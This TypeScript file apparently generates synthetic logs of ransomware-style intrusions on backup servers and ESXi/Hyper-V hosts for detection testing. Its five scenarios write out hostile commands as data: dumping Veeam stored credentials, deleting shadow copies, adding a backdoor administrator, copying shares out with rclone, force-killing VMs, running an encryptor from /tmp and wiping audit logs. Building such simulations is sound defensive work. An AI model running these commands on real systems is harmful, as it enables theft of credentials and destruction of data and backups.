// Attacks on a backup server and the hypervisors beside it: by VPN, by a hole in the product, by the help desk, by a group.
import { day, hour, minute, second } from '../../../src/lib/duration.ts'
import type { Sequence } from '../sequence.ts'
import { duo, okta } from '../vendors/gates.ts'
import { burst } from '../vendors/line.ts'
import { consoleSignIn, jobDeleted, nights, pointsRemoved, repositoryRemoved } from '../vendors/veeam.ts'
import { hostSignedIn, poweredOff, sshOn, typed, vcenter, vcenterSignedIn } from '../vendors/vmware.ts'
import {
  catalogueDeleted,
  defenderOff,
  diskMounted,
  groupMade,
  joinedGroup,
  localAdministrator,
  localMember,
  machineRemoved,
  ran,
  serviceIs,
  shareLooked,
  signedIn,
} from '../vendors/windows.ts'

const outside = '203.0.113.45'
const pool = '192.0.2.200'

export const fastCrew: Sequence = {
  name: 'a01-fast-crew',
  title: 'In by VPN, and everything gone the same night',
  about:
    'A stolen password and a second factor that was approved lead to a backup server in the domain. Its stored credentials are read, a local administrator is made, the guards go down, then the copies.',
  days: 5,
  life: nights,
  from: '21:30',
  by: 'administrator',
  steps: [
    {
      name: 'vpn',
      tells: 'A sign-in by VPN, its second factor approved.',
      after: [0, 0],
      lines: (t) => [duo(t, 'm.stone', outside)],
    },
    {
      name: 'shares',
      tells: 'Every file server is asked for its shares.',
      after: [2 * minute, 15 * minute],
      lines: (t) =>
        burst(12, 5 * second, t, (at, index) => [shareLooked(at, `fs0${index % 4}`, 'm.stone', pool, 'IPC$')]),
    },
    {
      name: 'server',
      tells: 'The account is on the backup server for the first time.',
      after: [10 * minute, 60 * minute],
      lines: (t) => [signedIn(t, 'vbr-01', 'm.stone', pool)],
    },
    {
      name: 'credentials',
      tells: 'The credentials in the product’s database are read.',
      after: [minute, 20 * minute],
      lines: (t) => [ran(t, 'vbr-01', 'm.stone', 'sqlcmd.exe -d VeeamBackup -Q "select * from [dbo].[Credentials]"')],
    },
    {
      name: 'administrator',
      tells: 'A new local administrator.',
      after: [5 * minute, 60 * minute],
      lines: (t) => localAdministrator(t, 'vbr-01', 'm.stone', 'svc_upd'),
    },
    {
      name: 'guards',
      tells: 'Defender is off, the services of the product are stopped.',
      after: [minute, 30 * minute],
      lines: (t) => [
        defenderOff(t, 'vbr-01'),
        serviceIs(t + minute, 'vbr-01', 'Veeam Backup Service', 'stopped'),
        serviceIs(t + 61 * second, 'vbr-01', 'SQL Server (VEEAMSQL2016)', 'stopped'),
      ],
    },
    {
      name: 'copies',
      tells: 'Restore points and the repository are removed in the console.',
      after: [5 * minute, 60 * minute],
      lines: (t) => [
        ...pointsRemoved(t, 'VBR-01\\svc_upd', 5),
        ...repositoryRemoved(t + 4 * minute, 'VBR-01\\svc_upd'),
      ],
    },
    {
      name: 'shadows',
      tells: 'Shadow copies and the backup catalogue go on every server.',
      after: [minute, 15 * minute],
      lines: (t) =>
        ['vbr-01', 'fs00', 'fs01'].flatMap((host, index) => [
          ran(t + index * 10_000, host, 'm.stone', 'vssadmin.exe delete shadows /all /quiet'),
          catalogueDeleted(t + index * 10_000 + 2000, host),
          serviceIs(t + index * 10_000 + 4000, host, 'Volume Shadow Copy', 'stopped'),
        ]),
    },
  ],
}

export const hole: Sequence = {
  name: 'a02-hole-in-the-product',
  title: 'The product itself starts a shell',
  about:
    'An unpatched backup server is told to start a command, which makes an account with a plain name. By it somebody reaches the Hyper-V host.',
  days: 5,
  life: nights,
  from: '20:00',
  by: 'account',
  steps: [
    {
      name: 'vpn',
      tells: 'A sign-in by VPN without a second factor.',
      after: [0, 0],
      lines: (t) => [duo(t, 'k.lang', outside, 'not_available')],
    },
    {
      name: 'shell',
      tells: 'The product’s service starts a command.',
      after: [10 * minute, day],
      lines: (t) => [
        ...['net.exe user point Passw0rd /add', 'net.exe localgroup Administrators point /add'].map((command, index) =>
          ran(
            t + index * second,
            'vbr-01',
            'SYSTEM',
            command,
            'C:\\Program Files\\Veeam\\Veeam.Backup.MountService.exe',
          ),
        ),
      ],
    },
    {
      name: 'account',
      tells: 'A local account, made an administrator and let in by remote desktop.',
      after: [0, 2 * minute],
      lines: (t) => [
        ...localAdministrator(t, 'vbr-01', 'VBR-01$', 'point'),
        ...localMember(t + 6000, 'vbr-01', 'VBR-01$', 'S-1-5-21-9-9-9-1001', 'Remote Desktop Users', 'S-1-5-32-555'),
      ],
    },
    {
      name: 'desktop',
      tells: 'The new account signs in.',
      after: [5 * minute, 12 * hour],
      lines: (t) => [signedIn(t, 'vbr-01', 'point', pool)],
    },
    {
      name: 'machines',
      tells: 'Machines of the Hyper-V host are removed, a disk is mounted.',
      after: [10 * minute, day],
      lines: (t) => [
        signedIn(t, 'hv01', 'point', pool),
        diskMounted(t + minute, 'hv01', 'D:\\vm\\dc01.vhdx'),
        ...['dc01', 'erp-db-01', 'files-01'].map((name, index) =>
          machineRemoved(t + (2 + index) * minute, 'hv01', name),
        ),
      ],
    },
    {
      name: 'away',
      tells: 'Files leave by rclone.',
      after: [minute, hour],
      lines: (t) => [ran(t, 'fs00', 'point', 'rclone.exe copy D:\\shares remote:bucket')],
    },
  ],
}

const admin = 'ACME\\p.nowak'
export const helpDesk: Sequence = {
  name: 'a03-help-desk',
  title: 'A friendly call to the help desk',
  about:
    'The help desk resets the second factor of an administrator who lost his phone, and who was somebody else. From the directory the way leads to vCenter, to the backup console and to the hosts.',
  days: 5,
  life: nights,
  from: '11:00',
  by: 'vsphere',
  steps: [
    {
      name: 'reset',
      tells: 'The help desk resets every factor of p.nowak.',
      after: [0, 0],
      lines: (t) => [okta(t, 'user.mfa.factor.reset_all', 'h.desk', '192.0.2.30', 'p.nowak')],
    },
    {
      name: 'sign-in',
      tells: 'p.nowak signs in from elsewhere and enrols a new factor.',
      after: [5 * minute, 6 * hour],
      lines: (t) => [
        okta(t, 'user.session.start', 'p.nowak', outside),
        okta(t + minute, 'user.mfa.factor.activate', 'p.nowak', outside, 'p.nowak'),
      ],
    },
    {
      name: 'vsphere',
      tells: 'He is put into the group that rules vSphere.',
      after: [10 * minute, day],
      lines: (t) => [joinedGroup(t, 'p.nowak', 'p.nowak', 'vSphere Admins')],
    },
    {
      name: 'ways',
      tells: 'SSH is on, on three hosts.',
      after: [5 * minute, 12 * hour],
      lines: (t) => [
        vcenterSignedIn(t, admin, outside),
        ...['esx01', 'esx02', 'esx03'].map((host, index) => sshOn(t + (index + 1) * 10_000, host, 'p.nowak')),
      ],
    },
    {
      name: 'disk',
      tells: 'A domain controller is switched off, and its disk hung into another machine.',
      after: [5 * minute, hour],
      lines: (t) => [
        poweredOff(t, admin, 'dc02'),
        vcenter(t + minute, 'vim.event.VmReconfiguredEvent', admin, 'Reconfigured dc02 on esx01.example.com in DC1'),
        vcenter(
          t + 3 * minute,
          'vim.event.VmReconfiguredEvent',
          admin,
          'Reconfigured jump07 on esx01.example.com in DC1',
        ),
      ],
    },
    {
      name: 'console',
      tells: 'He is put into the group of backup administrators, and signs in to the console.',
      after: [30 * minute, day],
      lines: (t) => [
        joinedGroup(t, 'p.nowak', 'p.nowak', 'Backup Admins'),
        ...consoleSignIn(t + 10 * minute, admin, '192.0.2.61'),
      ],
    },
    {
      name: 'copies',
      tells: 'Jobs, restore points and the repository are removed.',
      after: [5 * minute, hour],
      lines: (t) => [
        ...jobDeleted(t, admin),
        ...pointsRemoved(t + minute, admin, 5),
        ...repositoryRemoved(t + 5 * minute, admin),
      ],
    },
    {
      name: 'hosts',
      tells: 'On the hosts machines are switched off and their snapshots removed; something new runs.',
      after: [minute, hour],
      lines: (t) => [
        ...burst(6, 3 * second, t, (at, index) => [typed(at, 'esx01', `vim-cmd vmsvc/power.off ${index + 1}`)]),
        typed(t + minute, 'esx01', 'vim-cmd vmsvc/snapshot.removeall 3'),
        typed(t + 2 * minute, 'esx01', '/tmp/enc /vmfs/volumes'),
      ],
    },
  ],
}

export const group: Sequence = {
  name: 'a04-esx-admins',
  title: 'A group with the right name',
  about:
    'Hosts that joined a directory take everybody in a group of one name for their administrator, whoever made the group.',
  days: 5,
  life: nights,
  from: '22:00',
  by: 'group',
  steps: [
    {
      name: 'group',
      tells: 'A group “ESX Admins” is made, with one member.',
      after: [0, 0],
      lines: (t) => [groupMade(t, 'm.stone', 'ESX Admins'), joinedGroup(t + 5000, 'm.stone', 'm.stone', 'ESX Admins')],
    },
    {
      name: 'host',
      tells: 'The member signs in to a host as its administrator, and names another group there.',
      after: [5 * minute, 12 * hour],
      lines: (t) => [
        hostSignedIn(t, 'esx01', 'ACME\\m.stone', '192.0.2.210'),
        typedSetting(t + minute, 'esx01', 'helpdesk'),
      ],
    },
    {
      name: 'ways',
      tells: 'SSH is on.',
      after: [minute, hour],
      lines: (t) => [sshOn(t, 'esx01', 'm.stone')],
    },
    {
      name: 'machines',
      tells: 'Machines are listed, killed, and their snapshots removed.',
      after: [10 * minute, 4 * hour],
      lines: (t) => [
        typed(t, 'esx01', 'esxcli vm process list'),
        ...burst(4, 2 * second, t + 30_000, (at, index) => [
          typed(at, 'esx01', `esxcli vm process kill --type=force --world-id=${2_100_000 + index}`),
        ]),
        typed(t + minute, 'esx01', 'vim-cmd vmsvc/snapshot.removeall 7'),
      ],
    },
  ],
}

const typedSetting = (t: number, host: string, name: string) => ({
  source: 'vmware.esxi',
  at: t,
  text: `<166>${new Date(t).toISOString()} ${host}.example.com Hostd: info hostd[1053970] [Originator@6876 sub=Hostsvc.AppConfigOptionsProvider(Config.HostAgent.) sid=5295 user=m.stone] Set called with key 'Config.HostAgent.plugins.hostsvc.esxAdminsGroup' value '"${name}"'`,
})

export const sweep: Sequence = {
  name: 'a05-host-sweep',
  title: 'One command after the other, host after host',
  about: 'Nobody signed in. Every host kills its machines, runs what lies in its temporary folder and forgets its log.',
  days: 5,
  life: nights,
  from: '03:10',
  by: 'kill',
  steps: [
    {
      name: 'list',
      tells: 'Machines are listed.',
      after: [0, 0],
      lines: (t) => [
        typed(t, 'esx01', 'esxcli vm process list'),
        typed(t + 1000, 'esx01', 'esxcli system account list'),
      ],
    },
    {
      name: 'kill',
      tells: 'They are killed, one after the other.',
      after: [5 * second, 2 * minute],
      lines: (t) =>
        burst(4, 4 * second, t, (at, index) => [
          typed(at, 'esx01', `esxcli vm process kill --type=force --world-id=${2_100_000 + index}`),
        ]),
    },
    {
      name: 'run',
      tells: 'Files in the temporary folder run, the message of the day is another.',
      after: [5 * second, 10 * minute],
      lines: (t) => [
        typed(t, 'esx01', 'chmod +x /tmp/encrypt'),
        typed(t + 1000, 'esx01', 'nohup /tmp/encrypt /vmfs/volumes/datastore1 50'),
        typed(t + 5000, 'esx01', 'cp /tmp/motd /etc/motd'),
      ],
    },
    {
      name: 'log',
      tells: 'The audit records of the host are switched off.',
      after: [5 * second, 10 * minute],
      lines: (t) => [
        typed(t, 'esx01', 'esxcli system auditrecords local disable'),
        typed(t + 2000, 'esx01', 'rm -rf /var/log/shell.log'),
      ],
    },
    {
      name: 'next',
      tells: 'The same on the next host.',
      after: [10 * second, 15 * minute],
      lines: (t) => [
        ...burst(4, 4 * second, t, (at, index) => [
          typed(at, 'esx02', `esxcli vm process kill --type=force --world-id=${2_200_000 + index}`),
        ]),
        typed(t + minute, 'esx02', 'esxcli system auditrecords local disable'),
      ],
    },
  ],
}
